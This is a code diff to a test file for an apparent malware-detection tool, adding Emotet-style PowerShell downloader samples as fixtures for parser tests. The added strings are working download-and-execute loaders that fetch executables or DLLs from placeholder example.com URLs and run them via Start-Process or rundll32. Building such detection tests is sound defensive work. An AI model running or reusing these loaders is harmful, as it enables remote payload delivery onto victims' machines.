@@ -7,6 +7,7 @@ from base64 import b64encode
 import pytest
 
 from mimawari.detectors.marks.downloader import commands, emotet_grammar
+from mimawari.detectors.marks.emotet_forms import Owner
 
 SITES = [f"http://s{at}.example.com/wp-content/a{at}9/" for at in range(5)]
 LIBRARY = "C:\\ProgramData\\"
@@ -21,6 +22,19 @@ YEARS = {
         "$b=new-object Net.WebClient;$c='" + "@".join(SITES) + "'.Split('@');$d = '474';$e=$env:public+'\\'+$d+'.exe';"
         "foreach($f in $c){try{$b.DownloadFile($f, $e);Invoke-Item $e;break;}catch{}}",
         None, ("P1",),
+    ),
+    "2018-12": (
+        "$a='" + "@".join(SITES) + "'.Split('@');$b=([System.IO.Path]::GetTempPath()+'\\zPK.exe');$c=New-Object -com 'msxml2.xmlhttp';"
+        "$d=New-Object -com 'adodb.stream';foreach($e in $a){try{$c.open('GET',$e,0);$c.send();If($c.Status -eq 200){$d.open();"
+        "$d.type=1;$d.write($c.responseBody);$d.savetofile($b);Start-Process $b;break;}}catch{}}",
+        None, ("P1",),
+    ),
+    "2022-01": (
+        "$path='C:\\Users\\Public\\Documents\\ssd.dll';" + "".join(f"$url{at}='{one}';" for at, one in enumerate(SITES)) +
+        "$w=New-Object net.webclient;$urls=\"$url0,$url1,$url2,$url3,$url4\".split(\",\");foreach($u in $urls){try{"
+        "$w.DownloadFile($u,$path);if((Get-Item $path).Length -ge 30000){[Diagnostics.Process];break;}}catch{}}Sleep -s 4;"
+        "cmd /c C:\\Windows\\SysWow64\\rundll32.exe 'C:\\Users\\Public\\Documents\\ssd.dll',AnyString;",
+        30000, ("P5",),
     ),
     "2020-08": (
         "$n = 'Nfd9nts';&('new-it'+'em') $env:userprofile\\Uflw5pa\\W18\\ -itemtype directory;"
@@ -62,6 +76,7 @@ def test_each_year_is_read(year: str) -> None:
     assert found
     assert [one.rstrip("/") for one in found.addresses] == [one.rstrip("/") for one in SITES]
     assert (found.least, found.era) == (least, era)
+    assert found.owner is (Owner.LIKELY if year == "2017" else Owner.EMOTET)
 
 
 @pytest.mark.parametrize("year", YEARS)
